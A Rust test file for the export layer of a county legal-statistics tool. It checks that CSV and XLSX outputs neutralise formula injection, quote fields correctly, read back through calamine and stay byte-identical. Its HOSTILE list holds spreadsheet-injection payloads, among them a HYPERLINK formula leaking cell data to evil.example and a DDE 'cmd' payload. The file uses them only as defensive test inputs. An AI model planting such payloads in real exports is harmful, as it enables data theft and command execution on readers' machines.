//! Spreadsheet exports: formula injection and quoting in CSV and XLSX, the workbook read back by
//! an independent reader (calamine), encodings, determinism. See issue 6.

use std::io::{Cursor, Read};

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use fazhi::analysis::{
    Analysis, Check, CheckReason, ComparisonRow, DerivedRow, Notes, Severity, TrendRow, Verdict,
};
use fazhi::dict::{load_dict, IndicatorDict};
use fazhi::ingest::facts_csv::parse_facts;
use fazhi::model::{ChangeUnit, Fact, Level, Qualifier, Scope};
use fazhi::render::csv::{facts_csv, table_csv, CsvEncoding, CsvOptions};
use fazhi::render::table::{export_sources, export_tables};
use fazhi::render::xlsx::{render_workbook, WorkbookContext, WorkbookWriter};
use fazhi::render::Lang;

/// Hostile or awkward text cells and what a spreadsheet must show for each (the text itself,
/// never a formula result).
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "含\"引号\"的县",
    "逗号,分隔",
    "多行\n文本",
    "CRLF\r\n行",
    "=cmd|' /C calc'!A0",
    "普通文本",
];

fn dict() -> IndicatorDict {
    load_dict(None).expect("bundled dictionary")
}

fn fact(county: &str, metric: &str, year: i32, value: f64, unit: &str, evidence: &str) -> Fact {
    Fact {
        doc: format!("{county}{year}.txt"),
        region_code: "110101".into(),
        province: "北京市".into(),
        county: county.into(),
        report_year: Some(year),
        metric: metric.into(),
        year,
        value,
        unit: unit.into(),
        evidence: evidence.into(),
        offset: 7,
        level: Some(fazhi::model::Level::County),
        ..Fact::default()
    }
}

fn hostile_facts() -> Vec<Fact> {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| {
            let mut f = fact(
                h,
                "reconsideration.received",
                2023,
                -(i as f64) - 0.5,
                "件",
                h,
            );
            f.doc = (*h).to_string();
            f
        })
        .collect()
}

fn analysis() -> Analysis {
    let facts = vec![
        fact(
            "甲县",
            "reconsideration.received",
            2023,
            91.0,
            "件",
            "收到行政复议申请91件",
        ),
        fact(
            "甲县",
            "reconsideration.accepted",
            2023,
            73.0,
            "件",
            "受理73件",
        ),
        fact(
            "甲县",
            "litigation.head_appearance_rate",
            2023,
            99.5,
            "%",
            "负责人出庭应诉率99.5%",
        ),
        fact(
            "=乙县",
            "reconsideration.received",
            2023,
            40.0,
            "件",
            "=SUM(A1)收到40件",
        ),
    ];
    Analysis {
        facts,
        trends: vec![TrendRow {
            region_code: "110101".into(),
            county: "甲县".into(),
            level: None,
            metric: "reconsideration.received".into(),
            scope: Scope::Annual,
            year: 2023,
            value: 91.0,
            unit: "件".into(),
            prev_year: Some(2022),
            prev_value: Some(94.0),
            change: Some(-3.0),
            pct_change: Some(-3.19),
            annual_rate: None,
            evidence: "-收到行政复议申请91件".into(),
            doc: "甲县2023.txt".into(),
            notes: Notes::default(),
            qualifier: Qualifier::Exact,
        }],
        derived: vec![DerivedRow {
            region_code: "110101".into(),
            county: "甲县".into(),
            level: None,
            metric: "reconsideration.acceptance_rate.derived".into(),
            year: 2023,
            numerator_metric: "reconsideration.accepted".into(),
            numerator: 73.0,
            denominator_metric: "reconsideration.received".into(),
            denominator: 91.0,
            value: 80.22,
            ci_low: 70.89,
            ci_high: 87.11,
            reference: None,
            notes: Notes::default(),
            evidence: "受理73件; 收到行政复议申请91件".into(),
        }],
        comparisons: vec![ComparisonRow {
            basis: "year".into(),
            metric: "reconsideration.received".into(),
            scope: Scope::Annual,
            year: 2023,
            region_code: "110101".into(),
            county: "甲县".into(),
            level: Level::County,
            value: 91.0,
            unit: "件".into(),
            reference: None,
            rank: 1,
            n: 2,
            median: 65.5,
            percentile: 100.0,
            z_score: None,
            prefecture_rank: None,
            prefecture_n: None,
            prefecture_median: None,
            province_rank: None,
            province_n: None,
            notes: Notes::default(),
        }],
        checks: vec![Check {
            kind: "part_exceeds_whole".into(),
            severity: Severity::Warning,
            region_code: "110101".into(),
            county: "甲县".into(),
            level: None,
            doc: "甲县2023.txt".into(),
            metric: "reconsideration.accepted".into(),
            year: 2023,
            // A file name that looks like a formula, first in the Chinese message.
            reason: CheckReason::StatedChange {
                change: 25.0,
                unit: ChangeUnit::Percent,
                value_unit: "件".into(),
                base_year: 2022,
                doc: "@甲县2023.txt".into(),
                values: (100.0, 130.0),
                computed: 30.0,
                verdict: Verdict::Inconsistent,
            },
            evidence: "受理73件".into(),
        }],
        ..Analysis::default()
    }
}

fn utf8_body(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM")).expect("UTF-8")
}

#[test]
fn hostile_text_cells_are_neutralised_and_quoted_numbers_stay_numbers() {
    let facts = hostile_facts();
    let bytes = facts_csv(&facts, &CsvOptions::default()).expect("csv");
    let mut rdr = csv::Reader::from_reader(utf8_body(&bytes).as_bytes());
    let headers = rdr.headers().expect("header").clone();
    let col = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.expect("RFC 4180 row")).collect();
    assert_eq!(rows.len(), HOSTILE.len());
    for (row, hostile) in rows.iter().zip(HOSTILE) {
        let formula_like = matches!(
            hostile.chars().next(),
            Some('=' | '+' | '-' | '@' | '\t' | '\r')
        );
        for column in ["doc", "county", "evidence"] {
            let cell = &row[col(column)];
            if formula_like {
                assert_eq!(cell, format!("'{hostile}"), "{column} of {hostile:?}");
            } else {
                // Quotes, commas and newlines survive RFC 4180 quoting unchanged.
                assert_eq!(cell, hostile, "{column} of {hostile:?}");
            }
        }
        // Negative values are numbers, not neutralised text.
        let value = &row[col("value")];
        assert!(
            value.starts_with('-') && value.parse::<f64>().is_ok(),
            "{value}"
        );
        assert_eq!(&row[col("region_code")], "110101");
    }
    // Embedded quotes are doubled inside a quoted field.
    assert!(utf8_body(&bytes).contains("\"含\"\"引号\"\"的县\""));
    // And reading back restores every original text exactly.
    let back = parse_facts(&bytes, "hostile.csv", &dict()).expect("reads");
    assert!(back.problems.is_empty(), "{:?}", back.problems);
    assert_eq!(back.facts, facts);
}

#[test]
fn analysis_tables_neutralise_text_fields_only() {
    let tables = export_tables(&analysis(), &dict(), Lang::Zh).expect("tables");
    let trends = tables.iter().find(|t| t.name == "trends").expect("trends");
    let text =
        String::from_utf8(table_csv(trends, &CsvOptions::default()).expect("csv")).expect("utf-8");
    let line = text.lines().nth(1).expect("a row");
    // change -3 and pct_change -3.19 are numbers; the evidence starting with '-' is text.
    assert!(line.contains(",-3,-3.19,"), "{line}");
    assert!(line.contains(",'-收到行政复议申请91件,"), "{line}");
    let checks = tables.iter().find(|t| t.name == "checks").expect("checks");
    let text =
        String::from_utf8(table_csv(checks, &CsvOptions::default()).expect("csv")).expect("utf-8");
    assert!(
        text.contains(",stated_change.inconsistent,\"'@甲县2023.txt "),
        "{text}"
    );
}

fn sheet(bytes: &[u8], name: &str) -> Vec<Vec<Data>> {
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("xlsx opens");
    let range = wb.worksheet_range(name).expect("sheet exists");
    range.rows().map(<[Data]>::to_vec).collect()
}

fn col(rows: &[Vec<Data>], header: &str) -> usize {
    rows[0]
        .iter()
        .position(|c| *c == Data::String(header.to_string()))
        .unwrap_or_else(|| panic!("no column {header} in {:?}", rows[0]))
}

fn zip_entry(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).expect("zip");
    let mut s = String::new();
    zip.by_name(name)
        .expect(name)
        .read_to_string(&mut s)
        .expect("utf-8 xml");
    s
}

fn workbook(analysis: &Analysis, lang: Lang) -> Vec<u8> {
    render_workbook(&WorkbookContext {
        analysis,
        dict: &dict(),
        inputs: &[],
        lang,
    })
    .expect("workbook")
}

#[test]
fn workbook_reads_back_with_calamine() {
    let bytes = workbook(&analysis(), Lang::Zh);
    let wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).expect("opens");
    assert_eq!(
        wb.sheet_names(),
        [
            "facts",
            "wide",
            "trends",
            "derived",
            "comparisons",
            "slopes",
            "checks",
            "timeliness",
            "stated_changes",
            "regions",
            "coverage",
            "outliers",
            "columns",
            "sources"
        ]
    );

    let facts = sheet(&bytes, "facts");
    let (code, county, value, evidence) = (
        col(&facts, "region_code"),
        col(&facts, "county"),
        col(&facts, "value"),
        col(&facts, "evidence"),
    );
    assert_eq!(
        facts[1][code],
        Data::String("110101".into()),
        "code is text"
    );
    assert_eq!(facts[1][county], Data::String("甲县".into()));
    assert_eq!(facts[1][value], Data::Float(91.0));
    assert_eq!(
        facts[3][value],
        Data::Float(99.5),
        "percent keeps 0–100 value"
    );
    // Hostile text is a string cell holding the text itself (inert), never a formula.
    assert_eq!(facts[4][county], Data::String("=乙县".into()));
    assert_eq!(facts[4][evidence], Data::String("=SUM(A1)收到40件".into()));
    let sheet1 = zip_entry(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet1.contains("<f>"), "no formula cells");
    let styles = zip_entry(&bytes, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "quote prefix style");
    assert!(styles.contains("0.0#&quot;%&quot;"), "percentage format");
    assert!(
        sheet1.contains("<pane ") && sheet1.contains("state=\"frozen\""),
        "frozen header"
    );
    assert!(sheet1.contains("<autoFilter ref=\"A1:Q5\""), "autofilter");

    let trends = sheet(&bytes, "trends");
    assert_eq!(trends[1][col(&trends, "change")], Data::Float(-3.0));
    assert_eq!(trends[1][col(&trends, "annual_rate")], Data::Empty);

    let wide = sheet(&bytes, "wide");
    assert_eq!(wide[0][0], Data::String("区划代码".into()));
    let received = col(&wide, "行政复议申请收件数 (件)");
    let rows_jia: Vec<_> = wide
        .iter()
        .filter(|r| r[1] == Data::String("甲县".into()))
        .collect();
    assert_eq!(rows_jia[0][received], Data::Float(91.0));

    let columns = sheet(&bytes, "columns");
    assert!(columns
        .iter()
        .any(|r| r[0] == Data::String("derived".into())
            && r[1] == Data::String("ci_low".into())
            && r[3] == Data::String("95% Wilson 区间下限 %".into())));
    let sources = sheet(&bytes, "sources");
    assert!(sources
        .iter()
        .any(|r| r[0] == Data::String(format!("fazhi {}", env!("CARGO_PKG_VERSION")))));
}

/// A table longer than the sheet limit stays in its CSV file; its sheet says so in one line,
/// naming the file. The limit is injected small here: the default is 100,000 rows.
#[test]
fn r16_a_table_over_the_row_limit_is_left_to_its_csv() {
    let analysis = analysis();
    let dict = dict();
    let tables = export_sources(&analysis, &dict, Lang::Zh).expect("tables");
    let limit = 3;
    let facts_rows = tables[0].len();
    assert!(facts_rows > limit, "the facts table must outgrow the limit");
    let short: Vec<&str> = tables
        .iter()
        .filter(|t| t.len() <= limit)
        .map(|t| t.name.as_str())
        .collect();
    assert!(short.contains(&"trends"), "{short:?}");
    for (lang, words) in [(Lang::Zh, "全部数据见"), (Lang::En, "every row is in")] {
        let ctx = WorkbookContext {
            analysis: &analysis,
            dict: &dict,
            inputs: &[],
            lang,
        };
        let tables = export_sources(&analysis, &dict, lang).expect("tables");
        let mut book = WorkbookWriter::new(lang)
            .expect("book")
            .with_max_rows(limit);
        for t in &tables {
            book.add_table(t).expect("sheet");
        }
        let bytes = book.finish(&ctx, &tables).expect("workbook");
        let facts = sheet(&bytes, "facts");
        assert_eq!(facts.len(), 1, "one line: {facts:?}");
        let Data::String(note) = &facts[0][0] else {
            panic!("the note is text: {facts:?}");
        };
        assert!(
            note.contains(words)
                && note.contains("facts.csv")
                && note.contains(&facts_rows.to_string()),
            "{note}"
        );
        // The tables within the limit keep every row, and the columns sheet still
        // describes the table that moved out (its CSV has those columns).
        for name in &short {
            let t = tables.iter().find(|t| t.name == *name).expect("table");
            assert_eq!(sheet(&bytes, name).len(), t.len() + 1, "{name}");
        }
        let columns = sheet(&bytes, "columns");
        assert!(columns.iter().any(
            |r| r[0] == Data::String("facts".into()) && r[1] == Data::String("evidence".into())
        ));
    }
    // The default limit keeps every table of an ordinary run.
    let bytes = workbook(&analysis, Lang::Zh);
    assert_eq!(sheet(&bytes, "facts").len(), facts_rows + 1);
}

#[test]
fn workbook_is_byte_identical_and_has_a_fixed_creation_date() {
    let a = workbook(&analysis(), Lang::Zh);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let b = workbook(&analysis(), Lang::Zh);
    assert_eq!(a, b, "same input, same bytes");
    let core = zip_entry(&a, "docProps/core.xml");
    assert!(core.contains("2000-01-01T00:00:00Z"), "{core}");
}

#[test]
fn hostile_cells_in_the_workbook_are_strings_with_their_exact_text() {
    let a = Analysis {
        facts: hostile_facts(),
        ..Analysis::default()
    };
    let bytes = workbook(&a, Lang::En);
    let facts = sheet(&bytes, "facts");
    let (county, value) = (col(&facts, "county"), col(&facts, "value"));
    for (row, hostile) in facts[1..].iter().zip(HOSTILE) {
        assert_eq!(
            row[county],
            Data::String(hostile.to_string()),
            "{hostile:?}"
        );
        assert!(matches!(row[value], Data::Float(v) if v < 0.0));
    }
    let wide = sheet(&bytes, "wide");
    assert_eq!(wide[0][0], Data::String("Division code".into()));
}

#[test]
fn wide_table_leaves_conflicting_values_empty_and_names_them() {
    let mut a = analysis();
    let mut other = a.facts[0].clone();
    other.value = 93.0;
    other.doc = "甲县2023-重复.txt".into();
    a.facts.push(other);
    let tables = export_tables(&a, &dict(), Lang::Zh).expect("tables");
    let wide = tables.iter().find(|t| t.name == "wide").expect("wide");
    let text =
        String::from_utf8(table_csv(wide, &CsvOptions::default()).expect("csv")).expect("utf-8");
    let header = text
        .trim_start_matches('\u{feff}')
        .lines()
        .next()
        .expect("header");
    assert_eq!(
        header,
        "region_code,county,level,year,reconsideration.received,reconsideration.accepted,litigation.head_appearance_rate,conflicts"
    );
    let jia = text
        .lines()
        .find(|l| l.contains(",甲县,"))
        .expect("甲县 row");
    assert_eq!(
        jia,
        "110101,甲县,county,2023,,73,99.5,reconsideration.received: 91 / 93"
    );
}

#[test]
fn gb18030_csv_round_trips_and_refuses_what_it_cannot_hold() {
    let opts = CsvOptions {
        encoding: CsvEncoding::Gb18030,
    };
    let facts = analysis().facts;
    let bytes = facts_csv(&facts, &opts).expect("encodes");
    let back = parse_facts(&bytes, "gb.csv", &dict()).expect("reads");
    assert_eq!(back.encoding, "GB18030");
    assert_eq!(back.facts, facts);

    let mut bad = facts.clone();
    bad[0].evidence = "私用区\u{E5E5}字符".into();
    let err = facts_csv(&bad, &opts).expect_err("not silently replaced");
    assert!(err.to_string().contains("U+E5E5 on line 2"), "{err}");
}
